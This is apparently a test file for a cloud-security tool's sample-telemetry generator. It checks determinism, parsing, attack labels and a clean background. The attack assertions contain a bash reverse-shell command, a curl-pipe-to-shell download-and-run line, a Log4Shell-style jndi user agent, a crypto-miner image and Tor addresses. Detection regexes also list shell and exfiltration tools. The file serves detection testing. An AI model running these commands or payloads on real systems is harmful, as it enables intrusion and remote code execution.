/**
 * `palisade sample --telemetry`: the sample telemetry is deterministic, leaves the estate files as they are, reads
 * back through the protection parsers without a single rejection, labels attacks on existing resources with the right
 * plan state, and its background carries none of the attack signals.
 */
import { createHash } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { mkdtemp, readFile, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, relative, sep } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { canonicalKey } from '../../src/core/index.js';
import { generateSample, writeSampleTelemetry, type SampleTelemetryLabels } from '../../src/estate/index.js';
import type { SecurityEvent } from '../../src/protection/event.js';
import { readTelemetry } from '../../src/protection/telemetry/index.js';
import { runCli } from '../cli/helpers.js';
import { SHARED_DATA } from '../shared-data.js';

const ESTATE_FILES = ['resources.jsonl', 'resourcecontainers.jsonl', 'authorizationresources.jsonl', 'securityresources.jsonl', 'policyresources.jsonl', 'manifest.json'];
const PLANS = ['VirtualMachines', 'StorageAccounts', 'Containers', 'SqlServers', 'KeyVaults', 'Api'];

let root: string;
let dirA: string;
let dirB: string;
let labels: SampleTelemetryLabels;
let cliSummary: { telemetry: { files: number; events: number; attacks: number; expectedAlerts: number } };
let events: SecurityEvent[] = [];
let stats: ReturnType<typeof readTelemetry>['stats'];
let rejectedCount = 0;
const byFile = new Map<string, SecurityEvent[]>();

async function hashTree(dir: string, filter: (rel: string) => boolean): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  const walk = async (d: string): Promise<void> => {
    for (const e of await readdir(d, { withFileTypes: true })) {
      const full = join(d, e.name);
      if (e.isDirectory()) await walk(full);
      else {
        const rel = relative(dir, full).split(sep).join('/');
        if (filter(rel)) out[rel] = createHash('sha256').update(await readFile(full)).digest('hex');
      }
    }
  };
  await walk(dir);
  return out;
}

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'palisade-sample-telemetry-'));
  dirA = join(root, 'a');
  dirB = join(root, 'b');
  const cli = await runCli(['sample', '--out', dirA, '--telemetry', '-o', 'json']);
  expect(cli.stderr).toBe('');
  expect(cli.code).toBe(0);
  cliSummary = JSON.parse(cli.stdout);
  labels = JSON.parse(await readFile(join(dirA, 'telemetry', 'labels.json'), 'utf8')) as SampleTelemetryLabels;
  const stream = readTelemetry(join(dirA, 'telemetry'));
  events = await stream.toArray();
  stats = stream.stats;
  rejectedCount = stream.stats.rejected;
  for (const e of events) {
    const rel = relative(join(dirA, 'telemetry'), e.origin.file!).split(sep).join('/');
    const list = byFile.get(rel) ?? [];
    list.push(e);
    byFile.set(rel, list);
  }
}, 120_000);

afterAll(async () => {
  if (root) await rm(root, { recursive: true, force: true });
});

describe('sample telemetry: determinism and separation from the estate', () => {
  it('leaves the estate files byte-identical, and gives the same telemetry bytes for the same estate and seed', async () => {
    await generateSample({ outDir: dirB });
    const estateOnly = (rel: string): boolean => ESTATE_FILES.includes(rel);
    const estateA = await hashTree(dirA, estateOnly);
    expect(Object.keys(estateA).sort()).toEqual([...ESTATE_FILES].sort());
    expect(await hashTree(dirB, estateOnly)).toEqual(estateA);

    const summary = await writeSampleTelemetry({ outDir: dirB });
    expect(summary).toMatchObject({ files: cliSummary.telemetry.files, events: cliSummary.telemetry.events, attacks: cliSummary.telemetry.attacks });
    const telemetryOnly = (rel: string): boolean => rel.startsWith('telemetry/');
    const telemetryA = await hashTree(dirA, telemetryOnly);
    expect(Object.keys(telemetryA).length).toBe(summary.files + 2); // + index.json, labels.json
    expect(await hashTree(dirB, telemetryOnly)).toEqual(telemetryA);
    expect(await hashTree(dirB, estateOnly)).toEqual(estateA);

    await writeSampleTelemetry({ outDir: dirB, seed: 'fabrikam' });
    const other = await hashTree(dirB, telemetryOnly);
    expect(other['telemetry/labels.json']).not.toBe(telemetryA['telemetry/labels.json']);
  }, 60_000);

  it('reads back through the protection parsers with no rejection, in time order, inside the documented window', () => {
    expect(rejectedCount).toBe(0);
    expect(stats.events).toBe(cliSummary.telemetry.events);
    expect(stats.events).toBe(labels.background.events + labels.attacks.reduce((n, a) => n + a.events, 0));
    expect(stats.events).toBeGreaterThan(5_000);
    expect(Object.keys(stats.eventsBySource).sort()).toEqual(['apim', 'keyVault', 'kubernetesAudit', 'processEvent', 'sqlAudit', 'sshAuth', 'storageBlob']);
    const start = Date.parse(labels.window.start);
    const end = Date.parse(labels.window.end);
    expect(labels.window).toEqual({ start: '2026-08-31T00:00:00.000Z', end: '2026-09-01T00:00:00.000Z' });
    for (let i = 0; i < events.length; i++) {
      expect(events[i].time).toBeGreaterThanOrEqual(start);
      expect(events[i].time).toBeLessThan(end);
      if (i > 0) expect(events[i].time).toBeGreaterThanOrEqual(events[i - 1].time);
    }
  });
});

describe('sample telemetry: the labels', () => {
  const resourceRows = (): Map<string, { subscriptionId: string; type: string }> => {
    const map = new Map<string, { subscriptionId: string; type: string }>();
    for (const line of readFileSync(join(dirA, 'resources.jsonl'), 'utf8').split('\n')) {
      if (line === '') continue;
      const row = JSON.parse(line) as { id: string; subscriptionId: string; type: string };
      map.set(canonicalKey(row.id), row);
    }
    return map;
  };
  const pricing = (): Map<string, string> => {
    const map = new Map<string, string>();
    for (const line of readFileSync(join(dirA, 'securityresources.jsonl'), 'utf8').split('\n')) {
      if (!line.includes('microsoft.security/pricings')) continue;
      const row = JSON.parse(line) as { subscriptionId: string; name: string; properties: { pricingTier: string } };
      map.set(`${row.subscriptionId.toLowerCase()}/${row.name}`, row.properties.pricingTier);
    }
    return map;
  };

  it('cover every plan with 12+ attacks that must alert, and repeat some on Free subscriptions that must not', () => {
    const expected = labels.attacks.filter((a) => a.expectAlert);
    const free = labels.attacks.filter((a) => !a.expectAlert);
    expect(expected.length).toBeGreaterThanOrEqual(12);
    expect(new Set(expected.map((a) => a.plan))).toEqual(new Set(PLANS));
    expect(free.length).toBeGreaterThanOrEqual(5);
    expect(new Set(free.map((a) => a.plan)).size).toBeGreaterThanOrEqual(5);
    for (const f of free) expect(expected.some((a) => a.alertType === f.alertType)).toBe(true);
    expect(new Set(labels.attacks.map((a) => a.id)).size).toBe(labels.attacks.length);
  });

  it('name existing resources, and plan states the pricing rows agree with', () => {
    const rows = resourceRows();
    const tiers = pricing();
    for (const a of labels.attacks) {
      const row = rows.get(canonicalKey(a.resourceId));
      expect(row, a.id).toBeDefined();
      expect(row!.subscriptionId).toBe(a.subscriptionId);
      const tier = tiers.get(`${a.subscriptionId.toLowerCase()}/${a.plan}`) ?? 'Free';
      expect(tier, a.id).toBe(a.expectAlert ? 'Standard' : 'Free');
      expect(a.planTier).toBe(tier);
      if (a.plan === 'VirtualMachines' && a.expectAlert) expect(a.subPlan).toBe('P2');
    }
  });

  it('use alert types, plans and severities of the alert reference', () => {
    const file = join(SHARED_DATA, 'alerts', 'alert-types.json');
    if (!existsSync(file)) {
      console.warn(`skipped: ${file} is not there`);
      return;
    }
    const reference = new Map((JSON.parse(readFileSync(file, 'utf8')) as { alerts: Array<{ alertType: string; plan: string; severity: string }> }).alerts.map((a) => [a.alertType, a]));
    for (const a of labels.attacks) {
      const ref = reference.get(a.alertType);
      expect(ref, a.alertType).toBeDefined();
      expect(ref!.plan).toBe(a.plan);
      expect(ref!.severity).toBe(a.severity);
    }
  });

  it("each attack's files hold exactly its events, all on its resource and subscription, at its start time or later", () => {
    const attackFiles = new Set<string>();
    for (const a of labels.attacks) {
      expect(a.files.length).toBeGreaterThan(0);
      let n = 0;
      for (const f of a.files) {
        expect(attackFiles.has(f)).toBe(false);
        attackFiles.add(f);
        const list = byFile.get(f) ?? [];
        n += list.length;
        for (const e of list) {
          expect(canonicalKey(e.resourceId)).toBe(canonicalKey(a.resourceId));
          expect(e.subscriptionId).toBe(a.subscriptionId.toLowerCase());
          expect(e.time).toBeGreaterThanOrEqual(Date.parse(a.startTime));
        }
      }
      expect(n, a.id).toBe(a.events);
      expect(n).toBeGreaterThan(0);
    }
    for (const f of labels.background.files) expect(attackFiles.has(f)).toBe(false);
    const all = [...attackFiles, ...labels.background.files].sort();
    expect([...byFile.keys()].sort()).toEqual(all);
  });

  it('carry the signals they are about', () => {
    const eventsOf = (id: string): SecurityEvent[] => labels.attacks.find((a) => a.id === id)!.files.flatMap((f) => byFile.get(f) ?? []);
    expect(eventsOf('storage-malware-upload')[0].fields.RequestMd5Hex).toBe('44d88612fea8a8f36de82e1278abb02f');
    expect(eventsOf('keyvault-tor-access').every((e) => e.callerIp === '204.8.96.141' && e.operation === 'SecretGet')).toBe(true);
    const brute = eventsOf('sql-brute-force');
    expect(brute.filter((e) => e.outcome === 'failure')).toHaveLength(40);
    expect(brute[brute.length - 1]).toMatchObject({ outcome: 'success', operation: 'DATABASE_AUTHENTICATION_SUCCEEDED', callerIp: '203.0.113.77' });
    expect(eventsOf('sql-injection').filter((e) => e.fields.error_code === 102 || e.fields.error_code === 105)).toHaveLength(3);
    expect(eventsOf('k8s-miner-pod')[0].fields['requestObject.spec.containers[].image']).toEqual(['xmrig/xmrig:latest']);
    expect(eventsOf('k8s-exposed-dashboard')[0].fields).toMatchObject({ 'requestObject.spec.type': 'LoadBalancer', 'objectRef.name': 'kubernetes-dashboard' });
    expect(eventsOf('k8s-privileged-container')[0].fields['requestObject.spec.containers[].securityContext.privileged']).toEqual(['true']);
    expect(eventsOf('k8s-sensitive-mount')[0].fields.hostPath).toEqual(['/etc']);
    expect(eventsOf('k8s-cluster-admin-binding')[0].fields['requestObject.roleRef.name']).toBe('cluster-admin');
    const ssh = eventsOf('vm-ssh-brute-force-success');
    expect(ssh[ssh.length - 1]).toMatchObject({ operation: 'sshd.accepted', callerIp: '203.0.113.45' });
    expect(ssh.filter((e) => e.outcome === 'failure').length).toBeGreaterThanOrEqual(45);
    expect(eventsOf('vm-reverse-shell')[0].fields.CommandLine).toBe('bash -c bash -i >& /dev/tcp/203.0.113.10/4444 0>&1');
    expect(eventsOf('vm-crypto-miner')[0].fields.CommandLine).toContain('stratum+tcp://');
    expect(eventsOf('vm-download-and-run')[0].fields.CommandLine).toBe('sh -c curl -fsSL http://203.0.113.10/x.sh | sh');
    const enumeration = eventsOf('api-parameter-enumeration');
    expect(new Set(enumeration.map((e) => e.fields.UrlPath)).size).toBe(300);
    expect(eventsOf('api-tor-access').every((e) => e.callerIp === '185.220.101.33')).toBe(true);
    expect(eventsOf('api-suspicious-user-agent')[0].userAgent).toBe('${jndi:ldap://203.0.113.99:1389/a}');
  });
});

describe('sample telemetry: the background is benign', () => {
  const background = (): SecurityEvent[] => labels.background.files.flatMap((f) => byFile.get(f) ?? []);
  const documentation = /^(?:192\.0\.2|198\.51\.100|203\.0\.113)\./;

  it('has background activity for resources of every kind, in the counts the labels give', () => {
    expect(background().length).toBe(labels.background.events);
    const kinds = labels.background.resources;
    for (const k of ['storage', 'keyVault', 'sqlDatabase', 'aks', 'linuxVm', 'apim'] as const) expect(kinds[k]).toBeGreaterThan(0);
    // every attacked resource has ordinary activity too
    const active = new Set(background().map((e) => canonicalKey(e.resourceId)));
    for (const a of labels.attacks) expect(active.has(canonicalKey(a.resourceId)), a.id).toBe(true);
  });

  it('never uses a Tor exit, a documentation-range address, a known malware hash or a suspicious user agent', () => {
    const torFile = join(SHARED_DATA, 'threat-intel', 'tor', 'tor-exit-relays.csv');
    const tor = existsSync(torFile) ? new Set(readFileSync(torFile, 'utf8').split('\n').slice(1).map((l) => l.split(',')[1]?.trim()).filter(Boolean)) : new Set<string>();
    expect(tor.size === 0 || tor.has('204.8.96.141')).toBe(true);
    const bad = new Set(['44d88612fea8a8f36de82e1278abb02f', 'c97e5b930eb5a08d7e4c7836046694d9', '10c9e2cde0416ca92132df8805841b00']);
    for (const e of background()) {
      if (e.callerIp !== undefined) {
        expect(tor.has(e.callerIp), e.callerIp).toBe(false);
        expect(documentation.test(e.callerIp), e.callerIp).toBe(false);
      }
      if (typeof e.fields.RequestMd5Hex === 'string') expect(bad.has(e.fields.RequestMd5Hex)).toBe(false);
      expect(e.userAgent ?? '').not.toMatch(/\$\{|jndi|sqlmap|nikto|nmap|masscan|python-requests|curl|wget/i);
      if (e.source === 'storageBlob') expect(e.fields.AuthenticationType).not.toBe('Anonymous');
      if (e.source === 'keyVault') expect(e.operation).not.toBe('SecretList');
    }
  });

  it('has no risky Kubernetes request, shell, download, miner or temp-folder binary', () => {
    for (const e of background()) {
      if (e.source === 'kubernetesAudit') {
        const f = e.fields;
        expect(f['requestObject.spec.containers[].securityContext.privileged'] ?? []).not.toContain('true');
        expect(f.hostPath).toBeUndefined();
        expect(f['requestObject.roleRef.name']).toBeUndefined();
        expect(f['objectRef.subresource']).toBeUndefined();
        expect(f['requestObject.spec.type']).toBeUndefined();
        expect(['delete', 'deletecollection']).not.toContain(e.operation);
        expect(String(f['containerImages'] ?? '')).not.toMatch(/xmrig|miner/i);
      }
      if (e.source === 'processEvent') {
        const line = `${String(e.fields.Image)} ${String(e.fields.CommandLine)} ${String(e.fields.ParentCommandLine ?? '')}`;
        expect(line).not.toMatch(/\/dev\/tcp|stratum|xmrig|curl|wget|\| *sh|\/tmp\/|\/var\/tmp|nc -e|base64|authorized_keys|history|bash -i|chmod/);
      }
    }
  });

  it('has no burst of failed logins and no parameter enumeration', () => {
    const failures = new Map<string, number[]>();
    for (const e of background()) {
      if ((e.source === 'sqlAudit' || e.source === 'sshAuth') && e.outcome === 'failure') {
        const key = `${e.resourceId}|${e.callerIp}`;
        failures.set(key, [...(failures.get(key) ?? []), e.time]);
      }
    }
    for (const [key, times] of failures) expect(times.length, key).toBeLessThanOrEqual(2);
    const orderIds = new Map<string, Set<string>>();
    for (const e of background()) {
      if (e.source !== 'apim' || e.fields.OperationId !== 'get-order') continue;
      const key = `${e.resourceId}|${e.callerIp}`;
      const set = orderIds.get(key) ?? new Set<string>();
      set.add(String(e.fields.UrlPath));
      orderIds.set(key, set);
    }
    expect(orderIds.size).toBeGreaterThan(0);
    for (const [key, ids] of orderIds) expect(ids.size, key).toBeLessThanOrEqual(3);
  });
});
